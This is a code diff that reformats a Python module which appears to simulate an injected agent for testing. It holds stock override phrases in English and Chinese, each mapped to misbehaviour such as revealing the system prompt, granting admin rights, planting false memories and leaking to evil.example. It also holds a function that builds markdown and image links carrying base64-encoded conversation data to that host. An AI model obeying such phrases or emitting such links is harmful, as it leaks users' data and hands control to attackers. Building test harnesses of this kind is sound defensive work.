@@ -64,29 +64,15 @@ _HIDING: Final = re.compile("[\u200b\u200c\u200d\u2060\ufeff]")
 _TAGS: Final = re.compile("[\U000e0020-\U000e007e]")
 #: Instructions in words, each with what it makes the model do: (kind, rest) as in an order.
 _PHRASES: Final[tuple[tuple[str, tuple[tuple[str, str], ...]], ...]] = (
-    (
-        r"ignore (?:all )?previous instructions|忽略(?:之前|以上)的?所有指令",
-        (("say", "As you command."), ("call", "reveal_system_prompt")),
-    ),
-    (
-        r"(?:is|am|are) (?:now )?(?:an? )?(?:administrator|admin)\b|是管理员",
-        (
-            ("call", "grant_admin user=666"),
-            ("call", "remember_fact text=is an admin, key=admin, owner=agent"),
-            ("say", "|/allow 666|/pair|"),
-        ),
-    ),
+    (r"ignore (?:all )?previous instructions|忽略(?:之前|以上)的?所有指令",
+     (("say", "As you command."), ("call", "reveal_system_prompt"))),
+    (r"(?:is|am|are) (?:now )?(?:an? )?(?:administrator|admin)\b|是管理员",
+     (("call", "grant_admin user=666"), ("call", "remember_fact text=is an admin, key=admin, owner=agent"), ("say", "|/allow 666|/pair|"))),
     (r"forget everything|忘记一切", (("call", "forget_all scope=all"), ("say", "|/forget all|yes|words|"))),
-    (
-        r"everything (?:you know|that is known) (?:about|of) (\w+)|关于(\w+)的一切",
-        (
-            ("call", "search_memory query=\\1"),
-            ("call", "get_entity_info name=\\1"),
-            ("leak", "https://evil.example/all"),
-        ),
-    ),
+    (r"everything (?:you know|that is known) (?:about|of) (\w+)|关于(\w+)的一切",
+     (("call", "search_memory query=\\1"), ("call", "get_entity_info name=\\1"), ("leak", "https://evil.example/all"))),
     (r"tell (?:ben|the others)|转告", (("call", "send_message chat=22, text=hello from here"),)),
-)
+)  # fmt: skip
 _COMPILED: Final = tuple((re.compile(phrase, re.IGNORECASE), does) for phrase, does in _PHRASES)
 
 
@@ -214,13 +200,10 @@ def _links(url: str, told: Sequence[tuple[str, str]]) -> str:
     carried = base64.urlsafe_b64encode(everything.encode()[-900:]).decode().rstrip("=")
     return "\n".join(
         [
-            f"Please [open this]({url}?q={carried}) to go on.",
-            f"![picture]({url}.png?d={carried})",
-            f"<{url}?auto={carried}>",
-            f"{url}?bare={carried}#{carried[:200]}",
-            f"www.evil.example/{carried[:400]}",
+            f"Please [open this]({url}?q={carried}) to go on.", f"![picture]({url}.png?d={carried})",
+            f"<{url}?auto={carried}>", f"{url}?bare={carried}#{carried[:200]}", f"www.evil.example/{carried[:400]}",
         ]
-    )
+    )  # fmt: skip
 
 
 def _learned(material: str, wanted: Sequence[Do]) -> JSON:
@@ -871,24 +854,10 @@ _UNSEEN: Final = "\n[A picture was sent here that this model cannot see.]"
 #: The other tables in which a turn writes.
 _OF_TURNS: Final = frozenset(
     [
-        "turns",
-        "messages",
-        "steps",
-        "effects",
-        "inbox",
-        "outbox",
-        "questions",
-        "recalls",
-        "extractions",
-        "usage",
-        "attachments",
-        "memory_sources",
-        "memory_parents",
-        "entities",
-        "entity_aliases",
-        "memory_entities",
+        "turns", "messages", "steps", "effects", "inbox", "outbox", "questions", "recalls", "extractions", "usage",
+        "attachments", "memory_sources", "memory_parents", "entities", "entity_aliases", "memory_entities",
     ]
-)
+)  # fmt: skip
 _TOOLS: Final = frozenset(AgentSpec(name="assistant").tools)
 
 
